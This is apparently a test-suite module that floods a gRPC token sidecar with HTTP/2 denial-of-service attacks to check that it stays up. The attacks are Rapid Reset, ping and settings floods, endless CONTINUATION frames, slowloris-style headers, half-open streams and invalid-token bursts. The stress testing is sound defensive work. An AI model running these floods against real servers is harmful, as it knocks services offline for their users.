"""What other clients of a sidecar may do while an honest one is there. A program: `python -m tests.e2e.attacks NAME TARGET`, until it is killed."""

from __future__ import annotations

import itertools
import sys
import time
from typing import TYPE_CHECKING

from tokensidecar.v1 import token_service_pb2 as pb

from tests.e2e import http2
from tests.e2e.calls import SECONDS, Plane
from tests.e2e.http2 import Wire, frame

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

PAUSE = 0.001  # seconds between two bursts, so that attacker and sidecar get a core each


def silent(target: str) -> Iterator[int]:
    """Connections that say nothing."""
    wires = [Wire(target, greet=False) for _ in range(200)]
    yield from itertools.count(len(wires))


def half_open(target: str) -> Iterator[int]:
    """Nearly two thousand calls whose message never comes, as many on each connection as it may have.

    Not all at once: gRPC cancels calls at random, anybody's, while more than a thousand wait to be taken up.
    """
    wires = [Wire(target) for _ in range(15)]
    for wire in wires:
        for stream in range(1, 257, 2):
            wire.send(frame(http2.HEADERS, http2.END_HEADERS, stream, http2.request_fields()))
            wire.send(frame(http2.DATA, 0, stream, http2.message(b"x", length=1000)))
        time.sleep(0.05)
    yield from itertools.count()


def slow(target: str) -> Iterator[int]:
    """Calls that come byte by byte, again and again."""
    head = frame(http2.HEADERS, http2.END_HEADERS, 1, http2.request_fields())
    for number in itertools.count():
        wires = [Wire(target) for _ in range(50)]
        for byte in head:
            for wire in wires:
                wire.send(bytes([byte]))
            yield number
        for wire in wires:
            wire.close()


def resets(target: str) -> Iterator[int]:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    for number in itertools.count():
        with Wire(target) as wire:
            for first in range(1, 20_000, 100):
                calls = b"".join(
                    frame(http2.HEADERS, http2.END_HEADERS, stream, http2.request_fields())
                    + frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 100, 2)
                )
                if not wire.send(calls):
                    break
                yield number
        yield number


def pings(target: str) -> Iterator[int]:
    """Pings and settings without end (CVE-2019-9512, CVE-2019-9515); a new connection whenever one is hung up on."""
    flood = (frame(http2.PING, 0, 0, b"12345678") + frame(http2.SETTINGS, 0, 0)) * 50
    for number in itertools.count():
        with Wire(target) as wire:
            while wire.send(flood):
                yield number
        yield number


def continuations(target: str) -> Iterator[int]:
    """Header blocks that never end (CVE-2024-27316)."""
    more = frame(http2.CONTINUATION, 0, 1, http2.fields(("x-more", "a" * 1000)) * 10)
    for number in itertools.count():
        with Wire(target) as wire:
            wire.send(frame(http2.HEADERS, 0, 1, http2.request_fields()))
            while wire.send(more):
                yield number
        yield number


def bad_tokens(target: str) -> Iterator[int]:
    """Tokens that are none, as fast as one caller can."""
    request = pb.ValidateRequest(token="a.b.c.d.e", audiences=["orders"])
    with Plane(target) as plane:
        for number in itertools.count():
            calls = [plane.validate.future(request, timeout=SECONDS) for _ in range(20)]
            assert all(call.exception() for call in calls)
            yield number


ATTACKS: dict[str, Callable[[str], Iterator[int]]] = {
    attack.__name__: attack for attack in (silent, half_open, slow, resets, pings, continuations, bad_tokens)
}

if __name__ == "__main__":
    for burst, _ in enumerate(ATTACKS[sys.argv[1]](sys.argv[2])):
        if burst == 0:
            print("attacking", flush=True)
        time.sleep(PAUSE)
